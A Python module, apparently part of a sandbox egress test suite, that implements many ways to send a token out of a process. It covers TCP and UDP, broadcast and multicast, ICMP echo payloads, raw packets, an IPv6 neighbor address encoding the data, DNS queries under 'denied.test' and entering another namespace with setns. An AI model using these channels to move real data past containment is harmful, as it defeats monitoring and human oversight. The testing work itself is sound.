"""Ways out by Internet protocols: to the machine itself, to another host, and through name servers."""

import os
import socket
import struct
from typing import Any

from hostile.ways_out.way import To, add, checked, libc, way

FOUR, SIX = socket.AF_INET, socket.AF_INET6
STREAM, DATAGRAM, RAW = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
MPTCP, UDP_LITE, SCTP, EXPERIMENTAL = 262, 136, 132, 253
WAIT = 1.0


def stream(family: int, address: Any, token: str, protocol: int = 0) -> None:
    with socket.socket(family, STREAM, protocol) as end:
        end.settimeout(WAIT)
        end.connect(address)
        end.sendall(token.encode())


def datagram(family: int, address: Any, data: bytes, protocol: int = 0, kind: int = DATAGRAM) -> None:
    with socket.socket(family, kind, protocol) as end:
        end.settimeout(WAIT)
        if family == FOUR:
            end.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        end.sendto(data, address)


HOSTS = {
    "loopback": (FOUR, "127.0.0.1", "the loopback of the machine"),
    "loopback_six": (SIX, "::1", "the IPv6 loopback of the machine"),
    "other_loopback": (FOUR, "127.8.8.8", "another loopback address of the machine"),
    "mapped": (SIX, "::ffff:127.0.0.1", "the loopback, as an IPv4 address within IPv6"),
    "unspecified": (FOUR, "0.0.0.0", "the unspecified address, which the kernel takes for this machine"),
    "own": (FOUR, "@own", "the address of the machine on its network"),
    "own_six": (SIX, "@own_six", "the IPv6 address of the machine on its network"),
    "far": (FOUR, "@far", "a host in another network namespace"),
    "far_six": (SIX, "@far_six", "a host in another network namespace, by IPv6"),
    "link_local": (SIX, "@link_local", "a host on the same link, by its link-local address"),
}


def resolved(to: To, family: int, host: str, port: int) -> Any:
    """The address of a socket. Raises `OSError` where the interface of a scope does not exist."""
    host = to[host[1:]] if host.startswith("@") else host
    return socket.getaddrinfo(host, port, family, DATAGRAM, 0, socket.AI_NUMERICHOST)[0][4]


def _tcp_to(family: int, host: str) -> Any:
    return lambda to, token: stream(family, resolved(to, family, host, to["tcp"]), token)


def _udp_to(family: int, host: str) -> Any:
    return lambda to, token: datagram(family, resolved(to, family, host, to["udp"]), token.encode())


for _name, (_family, _host, _words) in HOSTS.items():
    add(f"tcp_{_name}", "tcp", f"Connects by TCP to {_words}.", _tcp_to(_family, _host))
    add(f"udp_{_name}", "udp", f"Sends a datagram to {_words}.", _udp_to(_family, _host))


@way("tcp", "Puts the data into the first segment of a connection (TCP Fast Open).")
def tcp_fast_open(to: To, token: str) -> None:
    with socket.socket(FOUR, STREAM) as end:
        end.sendto(token.encode(), socket.MSG_FASTOPEN, (to["far"], to["tcp"]))


@way("tcp", "Listens on all addresses, and sends the data to the client that connects.", held=True)
def tcp_listener(to: To, token: str) -> None:
    end = socket.create_server(("0.0.0.0", to["listened"]), reuse_port=True)
    if os.fork() == 0:
        connection, _ = end.accept()
        connection.sendall(token.encode())
        os._exit(0)


@way("tcp", "Connects by Multipath TCP.")
def mptcp(to: To, token: str) -> None:
    stream(FOUR, (to["own"], to["mptcp"]), token, MPTCP)


@way("sctp", "Connects by SCTP.")
def sctp(to: To, token: str) -> None:
    stream(FOUR, ("127.0.0.1", to["tcp"]), token, SCTP)


@way("udp", "Sends a datagram of UDP-Lite.")
def udp_lite(to: To, token: str) -> None:
    datagram(FOUR, ("127.0.0.1", to["udp_lite"]), token.encode(), UDP_LITE)


@way("broadcast", "Sends a datagram to all hosts on the link.")
def broadcast(to: To, token: str) -> None:
    datagram(FOUR, ("255.255.255.255", to["udp"]), token.encode())


@way("broadcast", "Sends a datagram to the broadcast address of a subnet.")
def subnet_broadcast(to: To, token: str) -> None:
    datagram(FOUR, (to["subnet_broadcast"], to["udp"]), token.encode())


@way("multicast", "Sends a datagram to a multicast group.")
def multicast(to: To, token: str) -> None:
    datagram(FOUR, (to["group"], to["udp"]), token.encode())


@way("multicast", "Sends a datagram to an IPv6 multicast group of the link.")
def multicast_six(to: To, token: str) -> None:
    datagram(SIX, resolved(to, SIX, "@group_six", to["udp"]), token.encode())


# Without ports


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def echo(kind: int, token: str) -> bytes:
    """An echo request that carries a token."""
    unsummed = struct.pack("!BBHHH", kind, 0, 0, 1, 1) + token.encode()
    return struct.pack("!BBHHH", kind, 0, checksum(unsummed), 1, 1) + token.encode()


@way("icmp", "Sends an echo request by a raw socket.")
def icmp_raw(to: To, token: str) -> None:
    datagram(FOUR, (to["far"], 0), echo(8, token), socket.IPPROTO_ICMP, RAW)


@way("icmp", "Sends an echo request by a ping socket, which needs no privilege.")
def icmp_ping(to: To, token: str) -> None:
    datagram(FOUR, (to["far"], 0), echo(8, token), socket.IPPROTO_ICMP)


@way("icmp", "Sends an ICMPv6 echo request by a raw socket.")
def icmp_six_raw(to: To, token: str) -> None:
    datagram(SIX, (to["far_six"], 0), echo(128, token), socket.IPPROTO_ICMPV6, RAW)


@way("icmp", "Sends an ICMPv6 echo request by a ping socket.")
def icmp_six_ping(to: To, token: str) -> None:
    datagram(SIX, (to["far_six"], 0), echo(128, token), socket.IPPROTO_ICMPV6)


@way("raw", "Sends a packet of an experimental protocol by a raw socket.")
def raw_protocol(to: To, token: str) -> None:
    datagram(FOUR, (to["far"], 0), token.encode(), EXPERIMENTAL, RAW)


@way("raw", "Sends an IPv6 packet of an experimental protocol by a raw socket.")
def raw_protocol_six(to: To, token: str) -> None:
    datagram(SIX, (to["far_six"], 0), token.encode(), EXPERIMENTAL, RAW)


@way("raw", "Sends a packet with an IP header of its own.")
def raw_header(to: To, token: str) -> None:
    addresses = socket.inet_aton(to["own"]) + socket.inet_aton(to["far"])
    header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, EXPERIMENTAL, 0) + addresses
    datagram(FOUR, (to["far"], 0), header + token.encode(), socket.IPPROTO_RAW, RAW)


@way("ndp", "Sends to an IPv6 address that contains the data, so that the kernel asks the link for that neighbor.")
def neighbor(to: To, token: str) -> None:
    datagram(SIX, (f"2001:db8::9:{token[:4]}:{token[4:]}", 9), b"-")


# Names


@way("dns", "Asks the resolver of the system for a name that contains the data.")
def dns_resolver(to: To, token: str) -> None:
    socket.getaddrinfo(f"{token}.denied.test", 80)


def query(token: str) -> bytes:
    name = b"".join(bytes([len(label)]) + label.encode() for label in (token, "denied", "test"))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", 1, 1)


@way("dns", "Sends a query to a name server by UDP.")
def dns_udp(to: To, token: str) -> None:
    datagram(FOUR, (to["names"], 53), query(token))


@way("dns", "Sends a query to a name server by TCP.")
def dns_tcp(to: To, token: str) -> None:
    asked = query(token)
    with socket.create_connection((to["names"], 53), WAIT) as end:
        end.sendall(struct.pack("!H", len(asked)) + asked)


# Other networks


@way("namespace", "Enters the network namespace of another process, and sends from there.")
def setns(to: To, token: str) -> None:
    handle = os.open(f"/proc/{to['far_pid']}/ns/net", os.O_RDONLY)
    checked(libc.setns(handle, 0))
    datagram(FOUR, ("127.0.0.1", to["udp"]), token.encode())
